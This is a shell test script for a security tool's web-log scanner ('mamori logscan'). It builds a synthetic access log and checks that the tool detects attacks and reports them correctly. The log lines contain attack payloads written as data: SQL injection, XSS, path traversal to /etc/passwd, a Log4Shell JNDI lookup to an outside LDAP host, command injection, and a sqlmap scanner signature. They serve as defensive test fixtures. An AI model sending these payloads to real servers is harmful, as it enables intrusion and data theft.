#!/bin/bash
# t0200-logscan.sh — `mamori logscan` end to end on a log written here:
# the JSON Lines contract, verdicts, compressed and piped input,
# directories, thread-count independence, time windows, every writer.
. "$(dirname "$0")/lib.sh"

L=$TMP/access.log
ts() { printf '[01/Nov/2026:%02d:%02d:00 +0900]' "$1" "$2"; }
UA='"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36"'
{
    # Lines 1-6: the usual answers of /item.php (about 5 KB).
    for i in 1 2 3 4 5 6; do
        echo "198.51.100.$i - - $(ts 9 $i) \"GET /item.php?id=$i HTTP/1.1\" 200 $((5000 + i * 10)) \"-\" $UA"
    done
    echo "203.0.113.7 - - $(ts 10 0) \"GET /item.php?id=1%27%20OR%20%271%27%3D%271 HTTP/1.1\" 200 48213 \"-\" $UA"   # 7 sqli, unusual size
    echo "203.0.113.7 - - $(ts 10 1) \"GET /search?q=%3Csvg%2Fonload%3Dalert(1)%3E HTTP/1.1\" 200 1200 \"-\" $UA"     # 8 xss
    echo "203.0.113.8 - - $(ts 10 2) \"GET /download?file=../../../../etc/passwd HTTP/1.1\" 404 0 \"-\" $UA"          # 9 traversal
    echo "203.0.113.9 - - $(ts 11 0) \"GET / HTTP/1.1\" 200 900 \"-\" \"\${jndi:ldap://203.0.113.9:1389/a}\""         # 10 log4shell
    echo "203.0.113.10 - - $(ts 11 5) \"GET /.env HTTP/1.1\" 200 311 \"-\" $UA"                                       # 11 sensitive
    echo "203.0.113.11 - - $(ts 12 0) \"GET /index.php?id=1 HTTP/1.1\" 200 900 \"-\" \"sqlmap/1.7.2#stable (https://sqlmap.org)\"" # 12 scanner
    echo "198.51.100.20 - - $(ts 12 1) \"GET /search?q=select+a+size HTTP/1.1\" 200 1300 \"-\" $UA"                    # 13 benign
    echo "this line is not a log line at all"                                                                         # 14 malformed
    echo "203.0.113.12 - - $(ts 13 0) \"GET /ping?host=127.0.0.1;cat%20/etc/passwd HTTP/1.1\" 500 0 \"-\" $UA"         # 15 cmdi
    echo "198.51.100.21 - - $(ts 13 1) \"GET /news/union-station-reopens?ref=drop-down-menu HTTP/1.1\" 200 4000 \"-\" $UA" # 16 benign
} > "$L"

run_json() { "$MAMORI" logscan --format json --fail-on none "$@"; }
run_json "$L" > "$TMP/out.jsonl" 2> "$TMP/err.txt"
F=$TMP/out.jsonl

ok "JSON Lines: every line is a JSON object" jq -e . "$F"
ok "JSON Lines: last object is the summary" sh -c "tail -n1 '$F' | jq -e '.type == \"summary\" and .capability == \"logscan\"'"
ok "finding objects carry the contract's keys" jq -se '[.[] | select(.type == "finding")] | length > 0 and all(has("check") and has("category") and has("severity") and has("file") and has("line") and has("client") and has("time") and has("request") and has("status") and has("verdict"))' "$F"
cat_at() { jq -se --argjson l "$1" --arg c "$2" '[.[] | select(.type == "finding" and .line == $l and .category == $c)] | length == 1' "$F"; }
ok "line 7: SQL injection found" cat_at 7 sqli
ok "line 8: XSS found" cat_at 8 xss
ok "line 9: traversal found" cat_at 9 traversal
ok "line 10: Log4Shell in the user agent found" cat_at 10 exploit
ok "line 11: /.env found" cat_at 11 sensitive-file
ok "line 12: sqlmap found" cat_at 12 scanner
ok "line 15: command injection found" cat_at 15 cmdi
ok "benign lines raise nothing" jq -se '[.[] | select(.type == "finding" and (.line <= 6 or .line == 13 or .line == 16))] | length == 0' "$F"
ok "sqli with an unusual size possibly succeeded" jq -se '[.[] | select(.line == 7 and .category == "sqli")][0].verdict == "possible-success"' "$F"
ok "traversal answered 404 is an attempt" jq -se '[.[] | select(.line == 9)][0].verdict == "attempt"' "$F"
ok "/.env answered 200 possibly succeeded" jq -se '[.[] | select(.line == 11)][0].verdict == "possible-success"' "$F"
ok "finding fields: client, status, size, time" jq -se '[.[] | select(.line == 7)][0] | .client == "203.0.113.7" and .status == 200 and .size == 48213 and .time == "2026-11-01T01:00:00Z"' "$F"
ok "countermeasure ids from the guidance" jq -se '[.[] | select(.line == 7)][0].countermeasures | index("meti.appsec") != null' "$F"
ok "summary counts the malformed line" jq -se '.[-1].counters.malformed == 1' "$F"
ok "malformed line named by number on stderr" grep -q ":14: warning: malformed" "$TMP/err.txt"
ok "summary: attempts per category" jq -se '[.[-1].tables.by_category[] | select(.category == "sqli")][0].attempts == 1' "$F"
ok "summary: top clients list 203.0.113.7 first" jq -se '.[-1].tables.top_clients[0].client == "203.0.113.7"' "$F"

# Exit status follows --fail-on.
"$MAMORI" logscan -q "$L" >/dev/null 2>&1; st=$?
ok "exit 1 when findings reach --fail-on (high)" test "$st" -eq 1
"$MAMORI" logscan -q --fail-on none "$L" >/dev/null 2>&1; st=$?
ok "exit 0 with --fail-on none" test "$st" -eq 0
sed -n '1,6p;12,13p;16p' "$L" > "$TMP/low.log"   # benign lines and the scanner (low)
"$MAMORI" logscan -q "$TMP/low.log" >/dev/null 2>&1; st=$?
ok "exit 0 when nothing reaches high" test "$st" -eq 0

# Same findings however the bytes arrive.
key() { jq -c 'select(.type == "finding") | [.line, .category, .verdict]' "$1"; }
key "$F" > "$TMP/k.plain"
gzip -c "$L" > "$TMP/a.log.gz"; run_json "$TMP/a.log.gz" > "$TMP/gz.jsonl" 2>/dev/null
ok ".gz gives the same findings" sh -c "jq -c 'select(.type == \"finding\") | [.line, .category, .verdict]' '$TMP/gz.jsonl' | cmp -s - '$TMP/k.plain'"
zstd -q -c "$L" > "$TMP/a.log.zst"; run_json "$TMP/a.log.zst" > "$TMP/zst.jsonl" 2>/dev/null
ok ".zst gives the same findings" sh -c "jq -c 'select(.type == \"finding\") | [.line, .category, .verdict]' '$TMP/zst.jsonl' | cmp -s - '$TMP/k.plain'"
run_json - < "$L" > "$TMP/stdin.jsonl" 2>/dev/null
ok "standard input gives the same findings" sh -c "jq -c 'select(.type == \"finding\") | [.line, .category, .verdict]' '$TMP/stdin.jsonl' | cmp -s - '$TMP/k.plain'"
ok "standard input is named '-'" jq -se '[.[] | select(.type == "finding")][0].file == "-"' "$TMP/stdin.jsonl"

# A directory: logs (also compressed) and an error log that is not one.
mkdir -p "$TMP/logs/nginx"
cp "$L" "$TMP/logs/nginx/access.log"; cp "$TMP/a.log.gz" "$TMP/logs/nginx/access.log.2.gz"
printf '2026/11/01 10:00:00 [error] 12#12: *1 open() "/x" failed\n' > "$TMP/logs/nginx/error.log"
run_json "$TMP/logs" > "$TMP/dir.jsonl" 2> "$TMP/dir.err"; st=$?
ok "directory: both logs scanned" jq -se '.[-1].counters.files == 2' "$TMP/dir.jsonl"
ok "directory: the error log is passed over with a note" grep -q "error.log: note: not a web access log" "$TMP/dir.err"
ok "directory: a non-log file is not an error (exit 0)" test "$st" -eq 0

# Many chunks: results do not depend on the thread count.
for i in $(seq 1 400); do cat "$L"; done > "$TMP/big.log"
"$MAMORI" logscan --format json --fail-on none -j1 "$TMP/big.log" > "$TMP/j1.jsonl" 2>/dev/null
"$MAMORI" logscan --format json --fail-on none -j2 "$TMP/big.log" > "$TMP/j2.jsonl" 2>/dev/null
"$MAMORI" logscan --format json --fail-on none -j7 "$TMP/big.log" > "$TMP/j7.jsonl" 2>/dev/null
ok "-j1 and -j2 give identical output" cmp -s "$TMP/j1.jsonl" "$TMP/j2.jsonl"
ok "-j1 and -j7 give identical output" cmp -s "$TMP/j1.jsonl" "$TMP/j7.jsonl"
nonscan() { jq -s '[.[] | select(.type == "finding" and .category != "scanner")] | length' "$1"; }
ok "400 copies: 400 times the findings" test "$(nonscan "$TMP/j1.jsonl")" -eq $((400 * $(nonscan "$F")))
ok "400 copies: a scanner is reported once per client" test "$(jq -s '[.[] | select(.category == "scanner")] | length' "$TMP/j1.jsonl")" -eq 1
ok "400 copies: every scanner request is counted" jq -se '[.[-1].tables.by_category[] | select(.category == "scanner")][0].attempts == 400' "$TMP/j1.jsonl"
ok "repeated attacks on one URL are summarized" jq -se '.[-1].tables.repeated | length > 0' "$TMP/j1.jsonl"

# Full state tables: which entries are evicted does not depend on the
# run (the table hash key is random) nor on the thread count.
EV="$SOURCE_ROOT/examples/logs"
for r in a b; do
    "$MAMORI" logscan --format json --fail-on none -j1 --max-clients 16 --max-paths 16 "$EV" > "$TMP/ev-$r.jsonl" 2>&1
done
"$MAMORI" logscan --format json --fail-on none -j2 --max-clients 16 --max-paths 16 "$EV" > "$TMP/ev-j2.jsonl" 2>&1
ok "eviction: the tables were full" grep -q 'evicted' "$TMP/ev-a.jsonl"
ok "eviction: the same report on every run" cmp -s "$TMP/ev-a.jsonl" "$TMP/ev-b.jsonl"
ok "eviction: the same report for -j1 and -j2" cmp -s "$TMP/ev-a.jsonl" "$TMP/ev-j2.jsonl"

# Time window.
run_json --since 2026-11-01T02:00:00Z "$L" > "$TMP/since.jsonl" 2>/dev/null
ok "--since drops earlier events" jq -se '[.[] | select(.type == "finding")] | all(.line >= 10)' "$TMP/since.jsonl"
run_json --until 2026-11-01T10:00:30+09:00 "$L" > "$TMP/until.jsonl" 2>/dev/null
ok "--until drops later events" jq -se '[.[] | select(.type == "finding")] | length == 1' "$TMP/until.jsonl"

# Writers and filters.
"$MAMORI" logscan --format sarif --fail-on none "$L" > "$TMP/out.sarif" 2>/dev/null
ok "SARIF 2.1.0 output is valid JSON with results" jq -e '.version == "2.1.0" and (.runs[0].results | length) > 0 and .runs[0].tool.driver.name == "mamori"' "$TMP/out.sarif"
"$MAMORI" logscan --format html --fail-on none -o "$TMP/r.html" "$L" 2>/dev/null
ok "HTML report written, self-contained" sh -c "grep -qi '<!doctype html' '$TMP/r.html' && ! grep -Eqi '<(script|link)[^>]+(src|href)=\"?https?:' '$TMP/r.html'"
"$MAMORI" logscan --lang ja --fail-on none "$L" > "$TMP/ja.txt" 2>/dev/null
ok "--lang ja prints Japanese titles" grep -q "SQLインジェクション" "$TMP/ja.txt"
ok "--lang ja: table headers and the recap in Japanese" sh -c "grep -q 'カテゴリ' '$TMP/ja.txt' && grep -q '今すぐ行うこと' '$TMP/ja.txt' && ! grep -q 'possible_success' '$TMP/ja.txt'"
"$MAMORI" logscan --fail-on none "$L" > "$TMP/en.txt" 2>/dev/null
# The terminal report: finding lines stream first; "what to do now" comes
# after the statistics, right before the final count, most severe first.
order_ok() {
    s=$(grep -n '^== Summary' "$1" | head -1 | cut -d: -f1)
    t=$(grep -n '^== What to do now' "$1" | cut -d: -f1)
    f=$(grep -n '^Findings:' "$1" | cut -d: -f1)
    [ -n "$s" ] && [ -n "$t" ] && [ -n "$f" ] && [ "$s" -lt "$t" ] && [ "$t" -lt "$f" ] &&
        [ "$f" -eq "$(wc -l <"$1")" ] &&
        sed -n "$((t + 1))p" "$1" | grep -q '^  critical  '
}
ok "text: what to do now closes the report, most severe first" order_ok "$TMP/en.txt"
ok "text: every line but a finding's fits 120 columns" sh -c "! grep -v '^$L:' '$TMP/en.txt' | awk 'length(\$0) > 120 { bad = 1 } END { exit !bad }'"
ok "text: the time chart's symbols are explained" grep -q '\. : - = + \* # % @' "$TMP/en.txt"
run_json --min-severity critical "$L" > "$TMP/crit.jsonl" 2>/dev/null
ok "--min-severity critical hides the rest" jq -se '[.[] | select(.type == "finding")] | length > 0 and all(.severity == "critical")' "$TMP/crit.jsonl"
"$MAMORI" logscan -q --fail-on none "$L" > "$TMP/quiet.txt" 2>/dev/null
ok "--quiet prints the summary without finding lines" sh -c "! grep -q 'access.log:7:' '$TMP/quiet.txt' && test -s '$TMP/quiet.txt'"
"$MAMORI" logscan --format json --fail-on none -o "$TMP/o.jsonl" "$L" 2>/dev/null
ok "--output writes the file" cmp -s "$TMP/o.jsonl" "$F"
done_testing
